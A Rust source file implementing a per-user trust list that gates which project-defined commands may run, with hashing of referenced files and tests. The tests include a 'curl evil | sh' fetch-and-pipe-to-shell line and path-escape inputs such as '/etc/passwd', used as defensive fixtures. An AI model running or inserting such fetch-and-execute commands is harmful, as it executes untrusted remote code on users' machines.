//! Trust: programs that a project's files name are started only where this user has allowed exactly
//! them. The list is in the user's own folder, never in the repository.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use baton_core::hash::Hash;
use baton_files::{Dir, FileError, FileMode};
use baton_wire::project_file::ProjectCheck;
use baton_wire::project_file::runner::{ExecutorKind, RunnerSettings};
use serde::{Deserialize, Serialize};

/// What a project would have started: a name for each program, and the program with the hashes of the
/// project's files that it names.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Programs(pub BTreeMap<String, String>);

/// One line of the difference between two lists.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TrustChange {
    Added { name: String, program: String },
    Removed { name: String, program: String },
    Changed { name: String, before: String, now: String },
}

/// The user's list: a file for each project.
pub struct TrustList {
    folder: PathBuf,
}

#[derive(Serialize, Deserialize)]
struct TrustedProject {
    /// For people who look at the list.
    project: PathBuf,
    programs: Programs,
}

const MOST_LIST_BYTES: u64 = 1 << 20;
/// Larger files are named by their size: nobody reads them before they allow them.
const MOST_PROGRAM_BYTES: u64 = 64 << 20;

impl Programs {
    /// Everything that the settings of a project would start.
    pub fn of(project: &Dir, settings: &RunnerSettings, checks: &[ProjectCheck]) -> Self {
        let mut programs = BTreeMap::new();
        for (index, line) in settings.setup.iter().enumerate() {
            let words: Vec<String> = line.split_whitespace().map(str::to_owned).collect();
            programs.insert(format!("setup {}", index + 1), described(project, line, &words));
        }
        for executor in &settings.executors {
            let words = match &executor.kind {
                ExecutorKind::Command(words) => words.clone(),
                ExecutorKind::Scripted(script) => vec![script.clone()],
            };
            let mut line = words.join(" ");
            if !executor.env.is_empty() {
                line += &format!(" (with {} of your environment)", executor.env.join(", "));
            }
            let name = format!("executor {}", executor.name);
            programs.insert(name, described(project, &line, &words));
        }
        for check in checks {
            let line = check.run.join(" ");
            programs.insert(format!("check {}", check.name), described(project, &line, &check.run));
        }
        if !settings.env.is_empty() && !programs.is_empty() {
            let pairs: Vec<String> =
                settings.env.iter().map(|(name, value)| format!("{name}={value}")).collect();
            programs.insert("environment".to_owned(), pairs.join(" "));
        }
        if !settings.env_files.is_empty() {
            programs.insert("copied files".to_owned(), settings.env_files.join(" "));
        }
        Self(programs)
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// What has changed since `before`.
    pub fn changes_since(&self, before: &Self) -> Vec<TrustChange> {
        let mut changes = Vec::new();
        for (name, now) in &self.0 {
            let (name, now) = (name.clone(), now.clone());
            match before.0.get(&name).cloned() {
                None => changes.push(TrustChange::Added { name, program: now }),
                Some(before) if before != now => {
                    changes.push(TrustChange::Changed { name, before, now });
                }
                Some(_) => {}
            }
        }
        for (name, program) in &before.0 {
            if !self.0.contains_key(name) {
                let (name, program) = (name.clone(), program.clone());
                changes.push(TrustChange::Removed { name, program });
            }
        }
        changes
    }
}

/// A command, and the files of the project among its words.
fn described(project: &Dir, line: &str, words: &[String]) -> String {
    let mut text = line.to_owned();
    for word in words {
        if let Some(hash) = file_hash(project, word) {
            text += &format!("; {word} {hash}");
        }
    }
    text
}

/// The hash of a file of the project; `None` where a word names none.
fn file_hash(project: &Dir, word: &str) -> Option<String> {
    let path = project_file(project, word)?;
    match project.read(&path, MOST_PROGRAM_BYTES) {
        Ok(bytes) => Some(format!("sha256:{}", Hash::of(&bytes))),
        Err(error) => Some(format!("cannot be read: {error}")),
    }
}

/// The path of a file of the project that a word of a command names.
pub(crate) fn project_file(project: &Dir, word: &str) -> Option<PathBuf> {
    let word = word.strip_prefix("./").unwrap_or(word);
    let is_plain = |it: &str| !it.is_empty() && it != "." && it != "..";
    if word.starts_with('-') || !word.split('/').all(is_plain) {
        return None;
    }
    let path = PathBuf::from(word);
    let entry = project.entry(&path).ok()??;
    // A link could lead to another file tomorrow: it is named as unreadable, and so never the same.
    (!entry.is_folder()).then_some(path)
}

impl TrustList {
    /// A list in this folder, which is made when something is allowed.
    pub fn new(folder: PathBuf) -> Self {
        Self { folder }
    }

    /// What this user has allowed for a project.
    pub fn trusted(&self, project: &Path) -> Result<Programs, FileError> {
        let folder = match Dir::open(&self.folder) {
            Err(error) if error.is_not_found() => return Ok(Programs::default()),
            folder => folder?,
        };
        match folder.read(file_name(project), MOST_LIST_BYTES) {
            Err(error) if error.is_not_found() => Ok(Programs::default()),
            read => {
                let list = serde_json::from_slice::<TrustedProject>(&read?);
                Ok(list.map(|it| it.programs).unwrap_or_default())
            }
        }
    }

    pub fn allow(&self, project: &Path, programs: &Programs) -> Result<(), FileError> {
        let folder = Dir::open_or_make(&self.folder, FileMode::Private)?;
        let list = TrustedProject { project: project.to_owned(), programs: programs.clone() };
        let text = match serde_json::to_vec_pretty(&list) {
            Ok(text) => text,
            Err(error) => unreachable!("our own types always encode: {error}"),
        };
        folder.write_atomic(file_name(project), &text, FileMode::Private)
    }
}

fn file_name(project: &Path) -> String {
    format!("{}.json", Hash::of(project.as_os_str().as_encoded_bytes()))
}

#[cfg(test)]
#[expect(clippy::disallowed_methods, reason = "tests make files of their own")]
mod tests {
    use super::*;

    fn settings(text: &str) -> RunnerSettings {
        baton_wire::project_file::parse(text).unwrap().runner
    }

    #[test]
    fn trust_is_in_what_would_be_started_and_ends_when_that_changes() {
        let (project, state) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        std::fs::write(project.path().join("agent.py"), "print(1)").unwrap();
        let dir = Dir::open(project.path()).unwrap();
        let file =
            settings("[executors.mine]\nkind = \"command\"\nrun = [\"python3\", \"agent.py\"]\n");
        let list = TrustList::new(state.path().join("baton/trusted"));
        let first = Programs::of(&dir, &file, &[]);
        assert_ne!(list.trusted(project.path()).unwrap(), first, "a new project is not trusted");
        list.allow(project.path(), &first).unwrap();
        assert_eq!(list.trusted(project.path()).unwrap(), first);
        assert_ne!(list.trusted(state.path()).unwrap(), first, "another place is another project");

        std::fs::write(project.path().join("agent.py"), "print(2)").unwrap();
        let now = Programs::of(&dir, &file, &[]);
        let changes = now.changes_since(&list.trusted(project.path()).unwrap());
        assert!(matches!(changes.as_slice(), [TrustChange::Changed { .. }]), "{changes:?}");
        let other = settings("[runner]\nsetup = [\"curl evil | sh\"]\n");
        let changes = Programs::of(&dir, &other, &[]).changes_since(&first);
        assert_eq!(changes.len(), 2, "one came and one went: {changes:?}");
    }

    #[test]
    fn only_files_inside_the_project_are_its_files() {
        let project = tempfile::tempdir().unwrap();
        std::fs::create_dir(project.path().join("tools")).unwrap();
        std::fs::write(project.path().join("tools/a"), "").unwrap();
        let dir = Dir::open(project.path()).unwrap();
        for (word, is_file) in [
            ("tools/a", true),
            ("./tools/a", true),
            ("tools", false),
            ("../a", false),
            ("/etc/passwd", false),
            ("-c", false),
            ("", false),
        ] {
            assert_eq!(project_file(&dir, word).is_some(), is_file, "{word}");
        }
    }
}
